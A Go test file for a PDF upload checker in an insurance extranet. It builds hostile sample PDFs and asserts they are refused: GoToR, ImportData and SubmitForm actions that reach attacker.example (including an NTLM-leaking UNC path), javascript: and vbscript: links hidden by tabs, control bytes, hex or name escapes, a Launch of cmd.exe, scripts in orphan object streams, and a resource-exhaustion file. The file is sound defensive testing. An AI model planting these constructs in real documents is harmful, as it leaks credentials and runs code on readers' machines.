package filecheck_test

import (
	"bytes"
	"compress/zlib"
	"context"
	"fmt"
	"testing"
	"time"

	"github.com/citejardins/extranet/shared/filecheck"
	"github.com/citejardins/extranet/shared/filecheck/samples"
	"github.com/citejardins/extranet/shared/insurance"
)

// rvPage is a one-page document (objects 1..4), the catalog with extra.
func rvPage(catalogExtra, pageExtra string) []string {
	content := "BT /F1 18 Tf 72 720 Td (Attestation) Tj ET"
	return []string{
		"<< /Type /Catalog /Pages 2 0 R " + catalogExtra + " >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + pageExtra +
			" /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
		fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(content), content),
	}
}

func rvZlib(s string) []byte {
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write([]byte(s))
	zw.Close()
	return z.Bytes()
}

func rvStream(dict string, data []byte) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

// rvActionPDF: a page PDF whose catalog opens action object 5.
func rvActionPDF(action string) []byte {
	return samples.Classic(append(rvPage("/OpenAction 5 0 R", ""), action), "")
}

// rvOrphanObjStm appends, after a valid file's %%EOF, a compressed object
// stream that no table lists, holding a JavaScript action (object 10) that
// the catalog's /OpenAction names.
func rvOrphanObjStm() []byte {
	base := samples.Classic(rvPage("/OpenAction 10 0 R", ""), "")
	inner := "10 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
	z := rvZlib(inner)
	tail := fmt.Sprintf("9 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n%%%%EOF\n", len(z), z)
	return append(base, tail...)
}

// TestCheckRefusesActiveContent: dynamic forms, actions that send data or
// open other files, rich media, links of other schemes (controls and spaces
// removed first), and scripts in an object stream no table lists are
// refused, each with its reason; the kinds refused before still are.
func TestCheckRefusesActiveContent(t *testing.T) {
	c := filecheck.New()
	xfa := "<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><subform><event activity='docReady'><script contentType='application/x-javascript'>app.alert(1)</script></event></subform></template></xdp:xdp>"
	for _, tc := range []struct {
		name string
		data []byte
		want insurance.Reason
	}{
		{"XFA form with script", samples.Classic(append(rvPage("/AcroForm << /Fields [] /XFA 5 0 R >> /NeedsRendering true", ""), rvStream("", []byte(xfa))), ""), insurance.ActiveContent},
		{"XFA form with script, Flate", samples.Classic(append(rvPage("/AcroForm << /Fields [] /XFA 5 0 R >>", ""), rvStream("/Filter /FlateDecode", rvZlib(xfa))), ""), insurance.ActiveContent},
		{"GoToR to a UNC path (NTLM leak)", rvActionPDF("<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"), insurance.ActiveContent},
		{"GoToE", rvActionPDF("<< /S /GoToE /T << /R /C /N (x) >> >>"), insurance.ActiveContent},
		{"SubmitForm on open", rvActionPDF("<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/x) >> /Flags 4 >>"), insurance.ActiveContent},
		{"ImportData", rvActionPDF("<< /S /ImportData /F (\\\\\\\\attacker.example\\\\x.fdf) >>"), insurance.ActiveContent},
		{"escaped GoToR in an object stream", samples.ObjectStreamPDF("/OpenAction 6 0 R", "<< /S /GoTo#52 /F (x.pdf) >>"), insurance.ActiveContent},
		{"URI java\\tscript:", rvActionPDF("<< /S /URI /URI (java\tscript:alert\\(1\\)) >>"), insurance.JavaScript},
		{"URI with leading control", rvActionPDF("<< /S /URI /URI (\x01javascript:alert\\(1\\)) >>"), insurance.JavaScript},
		{"URI vbscript:", rvActionPDF("<< /S /URI /URI (vbscript:msgbox) >>"), insurance.JavaScript},
		{"URI data:", rvActionPDF("<< /S /URI /URI (data:text/html,<script>alert\\(1\\)</script>) >>"), insurance.ActiveContent},
		{"URI file:", rvActionPDF("<< /S /URI /URI (file://attacker.example/share/x) >>"), insurance.ActiveContent},
		{"URI as hex, f i l e:", rvActionPDF("<< /S /URI /URI <66 69 6c 65 3a 2f 2f 78> >>"), insurance.ActiveContent},
		{"URI UNC path", rvActionPDF("<< /S /URI /URI (\\\\\\\\attacker.example\\\\x) >>"), insurance.ActiveContent},
		{"RichMedia annotation", samples.Classic(append(rvPage("", "/Annots [5 0 R]"), "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << /Assets << /Names [] >> >> >>"), ""), insurance.ActiveContent},
		{"orphan compressed object stream with JS", rvOrphanObjStm(), insurance.JavaScript},
		{"JS OpenAction", rvActionPDF("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), insurance.JavaScript},
		{"URI javascript:", rvActionPDF("<< /S /URI /URI (JavaScript:alert\\(1\\)) >>"), insurance.JavaScript},
		{"JS in object stream, escaped", samples.ObjectStreamPDF("/OpenAction 6 0 R", "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), insurance.JavaScript},
		{"Launch in AA of page", samples.Classic(append(rvPage("", "/AA << /O 5 0 R >>"), "<< /S /Launch /F (cmd.exe) >>"), ""), insurance.LaunchAction},
		{"orphan plain JS", samples.OrphanJavaScriptPDF(), insurance.JavaScript},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := c.Check(context.Background(), insurance.PDF, tc.data)
			if got := reasonOf(t, err); got != tc.want {
				t.Fatalf("reason %q (%v), want %q", got, err, tc.want)
			}
		})
	}
}

// TestCheckAcceptsWebLinks: links to web pages and mail addresses, the
// ones an insurer's certificate has, pass.
func TestCheckAcceptsWebLinks(t *testing.T) {
	c := filecheck.New()
	for _, uri := range []string{"https://www.maif.fr/espace", "http://exemple.fr", "mailto:contact@exemple.fr", " HTTPS://exemple.fr/a?b#c"} {
		if err := c.Check(context.Background(), insurance.PDF, rvActionPDF("<< /S /URI /URI ("+uri+") >>")); err != nil {
			t.Errorf("URI %q: %v, want accepted", uri, err)
		}
	}
}

// TestCheckUnendingDictionaries: dictionaries that never end, each of which
// the streams' pre-scan would read to the end of the file, are refused
// quickly, not read once each.
func TestCheckUnendingDictionaries(t *testing.T) {
	junk := bytes.Repeat([]byte("1 0 obj <<\n"), 400_000) // 4.4 MB
	data := append(append([]byte("%PDF-1.7\n"), junk...), samples.Classic(rvPage("", ""), "")[9:]...)
	start := time.Now()
	err := filecheck.New().Check(context.Background(), insurance.PDF, data)
	if took := time.Since(start); took > time.Second {
		t.Errorf("check took %v (%v)", took, err)
	}
	if got := reasonOf(t, err); got != insurance.TooComplex {
		t.Errorf("reason %q (%v), want %q", got, err, insurance.TooComplex)
	}
}
